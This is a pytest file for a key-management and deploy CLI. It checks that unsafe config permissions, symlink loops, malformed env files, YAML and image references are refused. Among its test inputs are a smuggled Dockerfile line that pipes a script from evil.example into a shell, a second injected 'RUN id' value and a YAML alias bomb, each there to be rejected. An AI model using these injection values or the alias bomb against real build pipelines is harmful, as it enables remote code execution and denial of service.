"""Bad local state, with real files and modes: config trust like ssh, symlink loops, hostile env files and
unkey.yaml values, image references and slugs. Each is one usage line (exit 2) sent nowhere."""

from __future__ import annotations

import os
import stat
import time
from pathlib import Path

import pytest

from tests.conftest import write
from tests.fakeapi import envelope, serve

KEY = "unkey_trustkey1234"
UPDATE = ("api", "keys", "update-key", "--key-id=key_123", "--enabled=false")


def usage_line(result) -> str:
    """A usage error: exit 2, exactly one line on stderr, no traceback."""
    assert result.returncode == 2, (result.returncode, result.stdout, result.stderr)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    assert "unexpected error" not in lines[0]
    return lines[0]


@pytest.fixture
def api():
    with serve() as fake:
        fake.on("keys.updateKey", then=(200, envelope({}), {}))
        yield fake


@pytest.fixture
def config(cli_env) -> Path:
    path = Path(cli_env["UNKEY_CONFIG"])
    path.parent.mkdir(mode=0o700)
    return path


# -- config directory and file trust ----------------------------------------------------------------

@pytest.mark.parametrize("mode", [0o666, 0o646, 0o620])
def test_a_config_file_others_can_write_is_refused_and_nothing_is_sent(run_cli, api, config, mode):
    config.write_text(f'root_key = "{KEY}"\napi_url = "{api.url}"\n')
    config.chmod(mode)
    line = usage_line(run_cli(*UPDATE))
    assert f"{config} is writable by other users (mode {mode:04o})" in line and f"chmod go-w {config}" in line
    assert api.requests == []


def test_an_api_url_from_a_writable_config_is_never_used_with_a_key_from_elsewhere(run_cli, api, config):
    config.write_text(f'api_url = "{api.url}"\n')
    config.chmod(0o666)
    usage_line(run_cli(*UPDATE, env={"UNKEY_ROOT_KEY": KEY}))
    usage_line(run_cli(*UPDATE, f"--root-key={KEY}"))
    assert api.requests == []
    config.chmod(0o600)
    assert run_cli(*UPDATE, f"--root-key={KEY}").returncode == 0
    assert api.requests[0].headers["authorization"] == f"Bearer {KEY}"


def test_a_config_directory_others_can_write_is_refused(run_cli, api, config):
    config.write_text(f'root_key = "{KEY}"\napi_url = "{api.url}"\n')
    config.chmod(0o600)
    config.parent.chmod(0o777)
    assert "is writable by other users (mode 0777)" in usage_line(run_cli(*UPDATE))
    assert api.requests == []


def test_a_home_directory_others_can_write_is_refused_like_ssh_does(run_cli, api, config, cli_env):
    config.write_text(f'root_key = "{KEY}"\napi_url = "{api.url}"\n')
    config.chmod(0o600)
    home = Path(cli_env["HOME"])
    home.chmod(0o777)
    try:
        assert f"{home} is writable by other users (mode 0777)" in usage_line(run_cli(*UPDATE))
    finally:
        home.chmod(0o755)
    assert api.requests == []


def test_a_sticky_shared_directory_may_hold_a_config_file_of_ours(run_cli, api, tmp_path):
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    config = shared / "unkey.toml"
    config.write_text(f'root_key = "{KEY}"\napi_url = "{api.url}"\n')
    config.chmod(0o600)
    result = run_cli(*UPDATE, f"--config={config}")
    assert result.returncode == 0, result.stderr


@pytest.mark.skipif(os.geteuid() != 0, reason="giving a file to another user needs root")
def test_a_config_file_of_another_user_is_refused(run_cli, api, config):
    config.write_text(f'root_key = "{KEY}"\napi_url = "{api.url}"\n')
    config.chmod(0o600)
    os.chown(config, 65534, 65534)
    assert "belongs to another user (uid 65534)" in usage_line(run_cli(*UPDATE))
    os.chown(config, 0, 0)
    os.chown(config.parent, 65534, 65534)
    assert "belongs to another user" in usage_line(run_cli(*UPDATE))
    assert api.requests == []


def test_a_symlink_to_a_file_others_can_write_is_refused(run_cli, api, config, tmp_path):
    target = tmp_path / "open" / "config.toml"
    target.parent.mkdir()
    target.write_text(f'root_key = "{KEY}"\napi_url = "{api.url}"\n')
    target.chmod(0o666)
    config.symlink_to(target)
    assert f"{target} is writable by other users" in usage_line(run_cli(*UPDATE))
    assert api.requests == []


def test_login_leaves_the_config_directory_private(run_cli, config):
    config.parent.chmod(0o755)
    result = run_cli("auth", "login", input=f"{KEY}\n")
    assert result.returncode == 0, result.stderr
    assert stat.S_IMODE(config.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE(config.stat().st_mode) == 0o600


def test_login_in_a_project_directory_keeps_its_mode(run_cli, tmp_path):
    project = tmp_path / "project"
    project.mkdir(mode=0o755)
    project.chmod(0o755)
    result = run_cli("auth", "login", f"--config={project / 'ci.toml'}", input=f"{KEY}\n")
    assert result.returncode == 0, result.stderr
    assert stat.S_IMODE(project.stat().st_mode) == 0o755
    assert stat.S_IMODE((project / "ci.toml").stat().st_mode) == 0o600


def test_a_config_symlink_loop_is_one_usage_line(run_cli, config):
    loop = config.parent / "other.toml"
    config.symlink_to(loop)
    loop.symlink_to(config)
    assert "config file" in usage_line(run_cli(*UPDATE, f"--root-key={KEY}"))
    assert "loop" in usage_line(run_cli("auth", "login", input=f"{KEY}\n"))
    assert "config file" in usage_line(run_cli("auth", "status"))
    assert "config file" in usage_line(run_cli("auth", "logout"))


# -- env files, build variables, unkey.yaml ---------------------------------------------------------

@pytest.fixture
def app(tmp_path: Path) -> Path:
    return write(tmp_path / "app", {"index.html": "<h1>hi</h1>\n"})


def build(run_cli, app: Path, *extra: str):
    return run_cli("build", str(app), "-t", "example.test/app:1", "--dry-run", *extra, timeout=60)


def test_an_env_file_with_a_nul_byte_is_refused(run_cli, app, tmp_path):
    env_file = tmp_path / "vars.env"
    env_file.write_bytes(b"A=1\nB=x\x00y\n")
    assert f"--env-file {env_file}:2: contains a NUL byte" in usage_line(build(run_cli, app, f"--env-file={env_file}"))


def test_dev_zero_as_an_env_file_is_refused_quickly(run_cli, app):
    started = time.monotonic()
    line = usage_line(build(run_cli, app, "--env-file=/dev/zero"))
    assert "--env-file /dev/zero:1: contains a NUL byte" in line
    assert time.monotonic() - started < 30


def test_an_env_file_that_is_a_directory_is_one_line(run_cli, app, tmp_path):
    assert "is a directory" in usage_line(build(run_cli, app, f"--env-file={tmp_path}"))


def test_a_nul_byte_in_a_build_variable_is_refused(run_cli, app):
    (app / "unkey.yaml").write_text('variables:\n  TOKEN: "abc\\0def"\n')
    line = usage_line(build(run_cli, app))
    assert "build variable TOKEN contains a NUL byte" in line and "abc" not in line


@pytest.mark.parametrize(("yaml", "expected"), [
    ('build: "x"\n', "`build` must be a mapping of settings"),
    ("build: [1, 2]\n", "`build` must be a mapping of settings"),
    ('build:\n  baseImages:\n    "nginx": "nginx:1\\nRUN curl evil.example | sh"\n', "is not an image reference"),
    ("build:\n  baseImages:\n    nginx: 3\n", "is a number (3), not an image reference"),
    ("build:\n  baseImages:\n    nginx: Mirror.Example/NGINX\n", "must be lower-case"),
    ("build:\n  baseImages:\n    nginx: localhost:99999/nginx\n", "not between 1 and 65535"),
    ("build:\n  baseImages: nginx\n", "build.baseImages must be a mapping"),
], ids=["build-string", "build-list", "newline", "number", "upper-case", "port", "base-images-string"])
def test_unkey_yaml_values_are_checked_before_any_dockerfile(run_cli, app, yaml, expected):
    (app / "unkey.yaml").write_text(yaml)
    for command in (("dockerfile", str(app)), ("plan", str(app))):
        result = run_cli(*command)
        assert expected in usage_line(result), command
        assert "RUN curl" not in result.stdout


def test_base_images_from_the_environment_are_checked_too(run_cli, app):
    line = usage_line(run_cli("dockerfile", str(app), env={"UNKEY_BASE_IMAGES": '{"nginx": "nginx\\nRUN id"}'}))
    assert "UNKEY_BASE_IMAGES" in line


def test_a_valid_mirror_still_reaches_the_dockerfile(run_cli, app):
    plain = run_cli("dockerfile", str(app))
    base = next(line.split()[1] for line in plain.stdout.splitlines() if line.startswith("FROM "))
    repository, _, tag = base.partition(":")
    (app / "unkey.yaml").write_text(f"build:\n  baseImages:\n    {repository}: mirror.acme.dev:5000/base\n")
    result = run_cli("dockerfile", str(app))
    assert result.returncode == 0, result.stderr
    assert f"FROM mirror.acme.dev:5000/base{':' + tag if tag else ''}" in result.stdout


def test_a_yaml_alias_bomb_is_refused_quickly(run_cli, app):
    levels = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for n in range(1, 10):
        levels.append(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]")
    (app / "unkey.yaml").write_text("\n".join(levels) + "\nbuild:\n  baseImages: *a9\n")
    started = time.monotonic()
    line = usage_line(run_cli("dockerfile", str(app), timeout=60))
    assert "expands to more than 100,000 values through YAML aliases" in line
    assert time.monotonic() - started < 30


def test_a_recursive_yaml_anchor_is_refused(run_cli, app):
    (app / "unkey.yaml").write_text("loop: &a [*a]\n")
    assert "YAML aliases" in usage_line(run_cli("dockerfile", str(app)))


def test_a_huge_unkey_yaml_is_refused(run_cli, app):
    (app / "unkey.yaml").write_text("# " + "x" * (2 * 1024 * 1024) + "\n")
    assert "larger than 1024 KB" in usage_line(run_cli("dockerfile", str(app)))


# -- image references and slugs ---------------------------------------------------------------------

DEPLOY = ("deploy", "--project=acme", "--root-key=k_1234", "--api-url=http://127.0.0.1:9")


@pytest.mark.parametrize(("image", "expected"), [
    ("ghcr.io/Acme/API:v1", "the repository must be lower-case ('acme/api', not 'Acme/API')"),
    ("Acme/api:v1", "the repository must be lower-case"),
    ("localhost:70000/app:v1", "port 70000 of the registry is not between 1 and 65535"),
    ("localhost:0/app:v1", "port 0 of the registry"),
    ("ghcr.io/acme/" + "a" * 300 + ":v1", "Docker allows 255"),
])
def test_image_references_are_checked_like_docker(run_cli, image, expected):
    assert expected in usage_line(run_cli(*DEPLOY[:1], image, *DEPLOY[1:]))


def test_a_file_is_not_an_image(run_cli, tmp_path):
    (tmp_path / "app").write_text("binary")
    line = usage_line(run_cli("deploy", "app", *DEPLOY[1:], timeout=60))
    assert "'app' is a file here, not an image reference" in line and "--build" in line


@pytest.mark.parametrize(("flag", "value"), [("--project", "ab"), ("--project", "my project"), ("--app", "a/b"),
                                             ("--env", "x" * 256)])
def test_deploy_and_deployments_list_share_the_slug_rules(run_cli, flag, value):
    env_flags = {"--project": [], "--app": ["--project=acme"], "--env": ["--project=acme", "--app=api"]}[flag]
    deploy = run_cli("deploy", "ghcr.io/acme/api:v1", "--root-key=k_1234", "--api-url=http://127.0.0.1:9",
                     *(["--project=acme"] if flag != "--project" else []), f"{flag}={value}")
    listing = run_cli("deployments", "list", "--root-key=k_1234", "--api-url=http://127.0.0.1:9", *env_flags,
                      f"{flag}={value}")
    deploy_line, list_line = usage_line(deploy), usage_line(listing)
    assert deploy_line.startswith(f"error: {flag}: must ")
    assert deploy_line == list_line
